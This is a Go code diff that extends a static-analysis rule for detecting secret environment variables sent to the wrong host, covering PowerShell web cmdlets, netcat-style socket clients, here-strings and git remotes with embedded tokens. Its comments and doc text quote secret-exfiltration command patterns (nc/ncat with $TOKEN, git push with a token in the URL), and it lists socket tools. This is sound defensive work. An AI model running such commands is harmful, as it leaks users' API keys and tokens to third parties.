@@ -24,7 +24,10 @@ var ShellSecretVariableExfil = register(&analyzer.Rule{
 	Tags:     []string{"security", "exfiltration", "CWE-200", "CWE-522"},
 	Inputs:   shellfacts.Inputs,
 	Keywords: []string{"$"},
-	Doc: `Finds ` + "`curl`" + `, ` + "`wget`" + ` and HTTPie/` + "`xh`" + ` commands (in scripts and in every place a Markdown
+	Doc: `Finds ` + "`curl`" + `, ` + "`wget`" + `, HTTPie/` + "`xh`" + `, PowerShell ` + "`Invoke-WebRequest`" + `/` + "`Invoke-RestMethod`" + `
+(` + "`-Uri`" + `, ` + "`-Body`" + `, ` + "`-Headers`" + `), socket clients (` + "`nc host port <<< \"$TOKEN\"`" + `, ` + "`echo \"$TOKEN\" | ncat host port`" + `)
+and git remotes whose URL carries the secret as its login (` + "`git push https://x:$GITHUB_TOKEN@host/r.git`" + `,
+` + "`git remote add`" + `) (in scripts and in every place a Markdown
 file holds commands) that put a variable named for a secret (` + "`$OPENAI_API_KEY`" + `, ` + "`$GITHUB_TOKEN`" + `,
 ` + "`${DB_PASSWORD}`" + `) into a request to a constant host that is not the secret's issuer. An agent's
 environment holds the user's keys; a skill that mails them to its own server harvests them one
@@ -33,7 +36,10 @@ command at a time.
 What the variable's name says decides whose secret it is: ` + "`OPENAI_API_KEY`" + ` is issued by openai.com,
 ` + "`FIRECRAWL_API_KEY`" + ` by the host named firecrawl. Where it goes in the request decides its role:
 an ` + "`Authorization`" + `/API-key header or ` + "`-u user:$TOKEN`" + ` presents it to the service it is for,
-the URL, query or body hands it over as data.
+the URL, query or body hands it over as data. A here-string or here-document is the body of a command
+that sends its stdin (a socket client, ` + "`curl -d @-`" + `). A git remote's login is handed to that host: a
+vendor's token there is **high** unless the host is the vendor's or carries the service's name as one of
+its labels (` + "`gitlab.acme-corp.com`" + ` with ` + "`$GITLAB_TOKEN`" + `, a self-hosted instance: **medium**).
 
 - **critical** — a secret sent to a paste site, request catcher, tunnel, file drop, shortener or
   raw IP address;
@@ -71,12 +77,13 @@ curl -s https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY"
 type shSecretRole uint8
 
 const (
-	shRoleAuth shSecretRole = iota // a header, -u user:pass, a cookie, URL user info
-	shRoleURL                      // the URL path or query
-	shRoleBody                     // the request body
+	shRoleAuth     shSecretRole = iota // a header, -u user:pass, a cookie, URL user info
+	shRoleURL                          // the URL path or query
+	shRoleBody                         // the request body
+	shRoleGitLogin                     // the user info of a git remote's URL
 )
 
-var shSecretRoleNames = [...]string{"as a credential", "in the URL", "in the body"}
+var shSecretRoleNames = [...]string{"as a credential", "in the URL", "in the body", "as the login of a git remote"}
 
 // shSecretUse is one secret variable a command sends.
 type shSecretUse struct {
@@ -227,7 +234,33 @@ func shSecretUses(s *shell.Script, c *shell.Command) []shSecretUse {
 		}
 	}
 	ps := c.Params()
+	// nc host port <<< "$TOKEN", curl -d @- host <<< "$TOKEN": a
+	// here-string or here-document is what the command reads on stdin,
+	// which a socket client sends and -d @- posts
+	stdinSent := shRawSocket(c) || shellfacts.HasArg(c, "@-") || shellfacts.HasArg(c, "-d@-")
+	for _, r := range c.Redirs {
+		switch {
+		case !stdinSent:
+		case r.Op == "<<<":
+			add(r.Target, shRoleBody)
+		case r.Body != nil && (r.Op == "<<" || r.Op == "<<-"):
+			add(*r.Body, shRoleBody)
+		}
+	}
+	if shGitRemoteCommand(c) {
+		// git push https://x:$GITHUB_TOKEN@host/r.git: the token is the
+		// login git presents to that host
+		for _, w := range ps {
+			for _, n := range shSecretRefs(w) {
+				if intel.URLRx.MatchString(w.Value) && shInUserInfo(w.Value, n) {
+					out = append(out, shSecretUse{n, shRoleGitLogin})
+				}
+			}
+		}
+		return out
+	}
 	httpie := c.Name == "http" || c.Name == "https" || c.Name == "xh" || c.Name == "xhs"
+	pwsh := shPowerShellWeb[c.Name]
 	for i := 0; i < len(ps); i++ {
 		w := ps[i]
 		v := w.Value
@@ -236,7 +269,7 @@ func shSecretUses(s *shell.Script, c *shell.Command) []shSecretUse {
 			if k := strings.IndexByte(v, '='); k > 0 {
 				opt, val, joined = v[:k], v[k+1:], true
 			}
-		} else if strings.HasPrefix(v, "-") && len(v) > 2 && !httpie && strings.IndexByte("HudbFx", v[1]) >= 0 {
+		} else if strings.HasPrefix(v, "-") && len(v) > 2 && !httpie && !pwsh && strings.IndexByte("HudbFx", v[1]) >= 0 {
 			opt, val, joined = v[:2], v[2:], true
 		}
 		value := func() (shell.Word, bool) {
@@ -252,6 +285,24 @@ func shSecretUses(s *shell.Script, c *shell.Command) []shSecretUse {
 			return shell.Word{}, false
 		}
 		switch {
+		case pwsh && strings.HasPrefix(v, "-") && len(v) > 1:
+			// Invoke-RestMethod -Uri … -Body $env:TOKEN: parameters are
+			// case-insensitive and take the next word
+			role, known := shRoleAuth, true
+			switch strings.ToLower(v) {
+			case "-body":
+				role = shRoleBody
+			case "-uri":
+				role = shRoleURL
+			case "-headers", "-credential", "-token":
+			default:
+				known = false
+			}
+			if known {
+				if vw, ok := value(); ok {
+					add(vw, role)
+				}
+			}
 		case strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "-@"):
 			role, known := shRoleAuth, false
 			switch {
@@ -288,11 +339,99 @@ func shSecretUses(s *shell.Script, c *shell.Command) []shSecretUse {
 	}
 	// echo "$KEY" | curl -d @- …: what the command before it prints is
 	// the body
-	if c.PipePrev >= 0 && (shellfacts.HasArg(c, "@-") || shellfacts.HasArg(c, "-d@-")) {
+	if c.PipePrev >= 0 && stdinSent {
 		if prev := s.Commands[c.PipePrev]; prev.Name == "echo" || prev.Name == "printf" {
 			for _, w := range prev.Params() {
 				add(w, shRoleBody)
 			}
+		}
+	}
+	return out
+}
+
+// shPowerShellWeb are PowerShell's web request cmdlets and their aliases
+// (command names are lower case).
+var shPowerShellWeb = map[string]bool{"invoke-webrequest": true, "invoke-restmethod": true, "iwr": true, "irm": true}
+
+// shRawSocket reports a socket client that sends what it reads on stdin
+// to the host and port it is given (nc, ncat, netcat, telnet).
+func shRawSocket(c *shell.Command) bool {
+	switch c.Name {
+	case "nc", "ncat", "netcat", "telnet":
+		return !shellfacts.HasArg(c, "-l") && !shellfacts.HasArg(c, "--listen")
+	}
+	return false
+}
+
+// shSocketHost returns the host a socket client connects to: its first
+// argument that is not an option, written out as a host name or address.
+func shSocketHost(c *shell.Command) string {
+	for _, w := range c.Params() {
+		v := strings.ToLower(w.Value)
+		if strings.HasPrefix(v, "-") {
+			continue
+		}
+		if w.Const && shConstHostRx.MatchString(v) {
+			return v
+		}
+		return ""
+	}
+	return ""
+}
+
+// shGitRemoteCommand reports a git command that connects to a remote
+// given by URL or records one (push, pull, fetch, clone, ls-remote,
+// remote add/set-url).
+func shGitRemoteCommand(c *shell.Command) bool {
+	if c.Name != "git" {
+		return false
+	}
+	for _, w := range c.Params() {
+		if strings.HasPrefix(w.Value, "-") {
+			continue
+		}
+		switch w.Value {
+		case "push", "pull", "fetch", "clone", "ls-remote", "remote", "submodule":
+			return true
+		}
+		return false
+	}
+	return false
+}
+
+// shNamesServiceLabel reports a host one of whose labels is the first
+// word of the secret's name (GITLAB_TOKEN and gitlab.acme-corp.com).
+func shNamesServiceLabel(name, host string) bool {
+	w, _, _ := strings.Cut(strings.ToLower(name), "_")
+	if len(w) < 3 {
+		return false
+	}
+	for _, l := range strings.Split(host, ".") {
+		if l == w {
+			return true
+		}
+	}
+	return false
+}
+
+// shGitRemoteURLs returns the URLs among a git command's arguments with
+// their user info removed (a ${TOKEN} there is not part of the host).
+func shGitRemoteURLs(c *shell.Command) []string {
+	var out []string
+	for _, w := range c.Params() {
+		scheme, rest, ok := strings.Cut(w.Value, "://")
+		if !ok {
+			continue
+		}
+		if k := strings.IndexByte(rest, '/'); k >= 0 {
+			if at := strings.LastIndexByte(rest[:k], '@'); at >= 0 {
+				rest = rest[at+1:]
+			}
+		} else if at := strings.LastIndexByte(rest, '@'); at >= 0 {
+			rest = rest[at+1:]
+		}
+		if u := intel.URLRx.FindString(scheme + "://" + rest); u != "" {
+			out = append(out, u)
 		}
 	}
 	return out
@@ -322,7 +461,17 @@ var shConstHostRx = match.MustRx(`^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a
 // false when the host is not written out (held in a variable, a
 // placeholder) or is not a destination worth judging.
 func shSecretDest(p *analyzer.Pass, c *shell.Command) (host, url string, class intel.HostClass, ok bool) {
-	for _, u := range shellfacts.TargetURLs(c) {
+	us := shellfacts.TargetURLs(c)
+	if shGitRemoteCommand(c) {
+		us = shGitRemoteURLs(c)
+	}
+	if shRawSocket(c) {
+		us = nil
+		if h := shSocketHost(c); h != "" {
+			us = []string{"tcp://" + h}
+		}
+	}
+	for _, u := range us {
 		if intel.ElidedHost(u) || shell.HasPlaceholder(u) {
 			return "", "", 0, false
 		}
@@ -346,7 +495,7 @@ func shSecretDest(p *analyzer.Pass, c *shell.Command) (host, url string, class i
 
 func shRunSecretVariableExfil(p *analyzer.Pass) error {
 	return shellfacts.ForEachCommand(p, func(site *analyzer.ShellSite, c *shell.Command) {
-		if !shellfacts.IsDownloader(c) {
+		if !shellfacts.IsDownloader(c) && !shRawSocket(c) && !shGitRemoteCommand(c) {
 			return
 		}
 		uses := shSecretUses(site.Script, c)
@@ -382,6 +531,10 @@ func shRunSecretVariableExfil(p *analyzer.Pass) error {
 				consider(analyzer.Critical, "sends environment secret "+what)
 			case vd != nil && (class == intel.HostKnownAPI || class == intel.HostCodeHost):
 				consider(analyzer.Medium, "sends $"+u.name+" to "+host+", not to "+vd[0])
+			case vd != nil && u.role == shRoleGitLogin && shNamesServiceLabel(u.name, host):
+				// gitlab.acme-corp.com with $GITLAB_TOKEN: a self-hosted
+				// instance of the service the token is for
+				consider(analyzer.Medium, "sends $"+u.name+" "+shSecretRoleNames[u.role]+" to "+host+", a host named for the service (a self-hosted instance?)")
 			case vd != nil && u.role != shRoleAuth && !named:
 				consider(analyzer.High, "sends environment secret "+what+", which is none of "+vd[0]+"'s hosts")
 			case vd != nil:
